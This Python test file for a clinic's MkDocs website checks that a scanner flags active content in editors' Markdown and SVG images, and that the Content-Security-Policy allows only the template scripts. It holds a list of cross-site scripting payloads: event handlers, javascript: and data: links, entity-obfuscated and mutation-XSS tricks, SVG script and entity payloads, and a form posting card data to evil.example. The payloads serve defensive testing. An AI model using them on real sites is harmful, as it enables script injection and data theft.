"""Nothing in a page can run script or load from another site: editors' content is checked as a
browser parses it, and the finished pages may run only the inline scripts of Material's templates,
which are all the Content-Security-Policy allows."""

from __future__ import annotations

import re

import markdown
import pytest

from clinic_site.active_content import content_findings, content_problems, page_findings, svg_problems
from clinic_site.security_headers import HEADERS_FILE, headers_for, inline_script_hashes, parse_headers_file, script_hash
from clinic_site.template_scripts import SCRIPT_TEMPLATES, known_scripts
from tests.support.sites import build, replace_in

EXTENSIONS = ["toc", "admonition", "attr_list", "md_in_html", "pymdownx.details", "pymdownx.superfences"]


def html_of(source: str) -> str:
    """The HTML MkDocs makes from a page's Markdown, with the site's extensions."""
    return markdown.markdown(source, extensions=EXTENSIONS)


# Each: Markdown an attacker (or a careless paste) could write, and what the check must name.
ATTACKS = {
    "script element": ("Hello\n\n<script>alert(1)</script>\n", "a <script> element"),
    "script with src": ('<script src="https://evil.example/x.js"></script>\n', "a <script> element"),
    "event attribute in raw HTML": ('<img src="../images/a.png" onerror="alert(1)">\n', "the onerror= attribute on <img>"),
    "attr_list handler": ('A paragraph\n{: onclick="alert(1)" }\n', "the onclick= attribute on <p>"),
    "attr_list on a link": ('[text](https://nhs.uk){ onmouseover="alert(1)" }\n', "the onmouseover= attribute on <a>"),
    "md_in_html block": ('<div markdown="1" onclick="alert(1)">\n**bold**\n</div>\n', "the onclick= attribute on <div>"),
    "javascript link": ("[click](javascript:alert(1))\n", "a javascript: address in href= on <a>"),
    "entity-obfuscated javascript": (
        '<a href="&#106;ava&#x09;script&colon;alert(1)">x</a>\n',
        "a javascript: address in href= on <a>",
    ),
    "upper-case JAVASCRIPT with spaces": ('<a href="  JAVASCRIPT:alert(1)">x</a>\n', "a javascript: address"),
    "vbscript link": ('<a href="vbscript:msgbox(1)">x</a>\n', "a vbscript: address"),
    "data URL link": ('<a href="data:text/html,<script>alert(1)</script>">x</a>\n', "a data: address in href= on <a>"),
    "data URL image": ("![x](data:image/svg+xml;base64,PHN2Zz4=)\n", "a data: address in src= on <img>"),
    "iframe srcdoc": ('<iframe srcdoc="<script>alert(1)</script>"></iframe>\n', "an <iframe>"),
    "object": ('<object data="evil.swf"></object>\n', "an <object> element"),
    "embed": ('<embed src="evil.swf">\n', "an <embed> element"),
    "base": ('<base href="https://evil.example/">\n', "a <base> element"),
    "meta refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example">\n', "a <meta> element"),
    "inline svg with script": ("<svg><script>alert(1)</script></svg>\n", "inline SVG"),
    "svg onload": ('<svg onload="alert(1)"></svg>\n', "the onload= attribute on <svg>"),
    "math": ('<math><a href="javascript:alert(1)">x</a></math>\n', "inline MathML"),
    "form": ('<form action="https://evil.example/steal"><input name="card"></form>\n', "a <form>"),
    "button formaction": ('<button formaction="javascript:alert(1)">Go</button>\n', "a javascript: address in formaction="),
    "style element": ("<style>body{display:none}</style>\n", "a <style> element"),
    "style attribute": ('<p style="position:fixed;inset:0">Login</p>\n', "the style= attribute on <p>"),
    "image from another site": (
        "![pixel](https://tracker.example/p.gif)\n",
        "loads 'https://tracker.example/p.gif' from another site",
    ),
    "protocol-relative image": ('<img src="//tracker.example/p.gif">\n', "from another site"),
    "srcset from another site": ('<img src="a.png" srcset="https://tracker.example/p.gif 2x">\n', "from another site"),
    # A browser ends a comment at --!> and reads <![CDATA[ as a comment up to the first >: the img runs.
    "comment ended by --!>": ("<!--x--!><img src=x onerror=alert(1)>\n", "the onerror= attribute on <img>"),
    "CDATA in HTML": ("<div><![CDATA[ ><img src=x onerror=alert(1)> ]]></div>\n", "the onerror= attribute on <img>"),
    # With scripting on, a browser reads <noscript> as text up to </noscript>, so the img is real.
    "noscript mutation": (
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>\n',
        "the onerror= attribute on <img>",
    ),
    "template": ("<template><img src=x onerror=alert(1)></template>\n", "a <template> element"),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_active_content_in_a_page_is_found(name):
    source, expected = ATTACKS[name]
    found = [finding.what for finding in content_findings(html_of(source))]
    assert any(expected in what for what in found), (name, found)


def test_ordinary_content_passes():
    source = (
        "# Before & after\n\nText with **bold**, a [link](https://www.nhs.uk/conditions/acne/) and "
        "[another page](../prp.md).\n\n![A treatment room](../images/room.jpg)\n\n"
        '!!! note\n    An admonition.\n\n??? question "Details"\n    Hidden text.\n\n'
        "```html\n<script>alert('shown as code')</script>\n```\n\n"
        'Contact: [email](mailto:hello@example.org), [phone](tel:+442079460000)\n\n<kbd>Ctrl</kbd> <abbr title="x">y</abbr>\n'
    )
    assert content_findings(html_of(source)) == []


def test_the_problem_names_the_file_and_the_line_in_the_editors_words():
    source = '---\ntitle: PRP\n---\n\nIntro.\n\n<div onclick="alert(1)">Click</div>\n'
    problems = content_problems(html_of(source.split("---\n", 2)[2]), source, "docs/prp.md")
    assert [str(p) for p in problems] == [
        "docs/prp.md, line 7: page content: the page contains the onclick= attribute on <div>: it runs script in the "
        "reader's browser. Accepted: text, Markdown formatting, links and images from docs/images/; embed nothing from "
        "other sites (link to it instead) and ask a developer for anything interactive."
    ]


# -- finished pages: only Material's own inline scripts ----------------------------------------------


def test_the_known_scripts_are_rendered_from_materials_own_templates(demo_config):
    scripts = known_scripts(demo_config, "..")
    assert SCRIPT_TEMPLATES == (
        "partials/javascripts/base.html",
        "partials/javascripts/content.html",
        "partials/javascripts/palette.html",
        "partials/javascripts/consent.html",
        "partials/integrations/analytics.html",
    )
    assert any(s.startswith('__md_scope=new URL("..",location)') for s in scripts)
    assert any(s.startswith("var palette=__md_get") for s in scripts)


def test_every_inline_script_of_the_demo_site_is_a_known_template_script_and_the_policy_hashes_only_those(demo_site, demo_config):
    rules = parse_headers_file((demo_site / HEADERS_FILE).read_text(encoding="utf-8"))
    script_src = next(d for d in headers_for(rules, "/")["Content-Security-Policy"].split("; ") if d.startswith("script-src"))
    used = set()
    for page in demo_site.rglob("*.html"):
        html = page.read_text(encoding="utf-8")
        depth = len(page.relative_to(demo_site).parts) - 1
        base_url = "/" if page.name == "404.html" else "/".join([".."] * depth) or "."
        findings, scripts = page_findings(html, known_scripts(demo_config, base_url))
        assert findings == [], page
        assert {script_hash(s) for s in scripts} == inline_script_hashes(html), page
        used |= scripts
    assert sorted(re.findall(r"'sha256-[^']+'", script_src)) == sorted(script_hash(s) for s in used)


def test_an_inline_script_no_template_writes_is_refused_in_a_finished_page(demo_config):
    known = known_scripts(demo_config, ".")
    page = "<html><head><script>" + next(iter(known)) + "</script></head><body><script>steal()</script></body></html>"
    findings, scripts = page_findings(page, known)
    assert [f.what for f in findings] == ["an inline <script> that none of the site's templates writes"]
    assert scripts == {next(iter(known))}
    data = '<script type="application/ld+json">{"@type": "Organization"}</script><script src="../app.js"></script>'
    assert page_findings(data, known) == ([], set())
    assert [f.what for f in page_findings('<script src="https://evil.example/x.js"></script>', known)[0]] == [
        "a script loaded from another site ('https://evil.example/x.js')"
    ]


@pytest.fixture(scope="module")
def demo_config():
    from mkdocs.config import load_config

    from tests.support.sites import ROOT

    return load_config(str(ROOT / "mkdocs.yml"))


# -- SVG images in docs/ --------------------------------------------------------------------------


def test_svg_images_with_scripts_links_or_entities_are_refused():
    clean = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"><use href="#a"/><circle id="a" r="4"/></svg>'
    assert svg_problems(clean, "docs/images/ok.svg") == []
    cases = {
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>': "a <script> element",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>': "the onload= attribute on <svg>",
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"><a x:href="javascript:alert(1)">'
        b"<text>x</text></a></svg>": "a link to 'javascript:alert(1)' on <a>",
        b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">'
        b"<img src='x' onerror='alert(1)'/></body></foreignObject></svg>": "a <foreignobject> element",
        b'<!DOCTYPE svg [<!ENTITY s "<script>alert(1)</script>">]><svg xmlns="http://www.w3.org/2000/svg">&s;</svg>': (
            "a <!DOCTYPE> or <!ENTITY> declaration"
        ),
        b'<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" to="javascript:alert(1)"/></a></svg>': (
            "an animation that changes 'href'"
        ),
    }
    for svg, expected in cases.items():
        problems = svg_problems(svg, "docs/images/bad.svg")
        assert any(expected in p.problem for p in problems), (svg, problems)
        assert all(p.path == "docs/images/bad.svg" for p in problems)


# -- what an editor sees: real builds -------------------------------------------------------------


def test_a_script_pasted_into_a_page_stops_the_build_naming_the_file_and_line(project):
    page = project / "docs" / "treatments" / "prp.md"
    replace_in(page, "## What it is", '<script>alert("pasted")</script>\n\n## What it is')
    line = page.read_text(encoding="utf-8").splitlines().index('<script>alert("pasted")</script>') + 1
    result = build(project)
    assert not result.ok
    assert f"docs/treatments/prp.md, line {line}: page content: the page contains a <script> element" in result.output
    assert "Traceback" not in result.output
    assert not (result.site_dir / "treatments" / "prp" / "index.html").exists()  # stopped before any page was written


def test_a_handler_in_a_concern_introduction_names_the_introduction_file(project):
    intro = project / "data" / "concerns" / "acne-scars.md"
    intro.write_text(intro.read_text(encoding="utf-8") + '\n\nSee <a href="#" onclick="alert(1)">more</a>.\n', encoding="utf-8")
    line = intro.read_text(encoding="utf-8").splitlines().index('See <a href="#" onclick="alert(1)">more</a>.') + 1
    result = build(project)
    assert not result.ok
    assert (
        f"data/concerns/acne-scars.md, line {line}: page content: the page contains the onclick= attribute on <a>"
        in result.output
    )


def test_an_svg_with_a_script_or_an_html_file_in_docs_stops_the_build(project):
    (project / "docs" / "images" / "evil.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>', encoding="utf-8"
    )
    (project / "docs" / "landing.html").write_text("<script>alert(1)</script>", encoding="utf-8")
    result = build(project)
    assert not result.ok
    assert "docs/images/evil.svg: image: the SVG image contains a <script> element" in result.output
    assert "docs/landing.html: file: .html files in docs/ would be published as they are" in result.output
